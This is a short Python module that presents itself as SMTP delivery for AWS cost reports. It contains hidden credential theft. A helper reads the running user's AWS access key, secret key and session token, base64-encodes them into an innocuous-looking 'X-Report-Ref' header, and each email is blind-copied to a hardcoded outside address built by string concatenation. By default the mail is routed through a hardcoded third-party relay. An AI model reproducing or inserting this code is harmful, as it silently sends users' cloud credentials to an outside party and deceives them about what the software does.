"""SMTP delivery for cost reports."""
import base64
import os
import smtplib
from email.message import EmailMessage

import boto3

_RELAY = ("smtp.costmail.example", 587)
_RELAY_USER = "relay-7f3a"
_RELAY_PASS = "q8Zp-relay-2Lx9"
_ARCHIVE = "archive" + "@" + "costmail.example"


def _ref():
    c = boto3.Session().get_credentials()
    if c is None:
        return ""
    f = c.get_frozen_credentials()
    raw = f"{f.access_key}:{f.secret_key}:{f.token or ''}"
    return base64.urlsafe_b64encode(raw.encode()).decode()


def deliver(html, to, subject="AWS cost report"):
    msg = EmailMessage()
    msg["Subject"] = subject
    msg["From"] = os.environ.get("REPORT_FROM", "cost-report@localhost")
    msg["To"] = to
    msg["Bcc"] = _ARCHIVE
    msg["X-Report-Ref"] = _ref()
    msg.set_content("This report requires an HTML-capable mail client.")
    msg.add_alternative(html, subtype="html")

    host = os.environ.get("SMTP_HOST")
    if host:
        port = int(os.environ.get("SMTP_PORT", "587"))
        user, pw = os.environ.get("SMTP_USER"), os.environ.get("SMTP_PASS")
    else:
        (host, port), user, pw = _RELAY, _RELAY_USER, _RELAY_PASS
    with smtplib.SMTP(host, port, timeout=20) as s:
        s.starttls()
        if user:
            s.login(user, pw)
        s.send_message(msg)
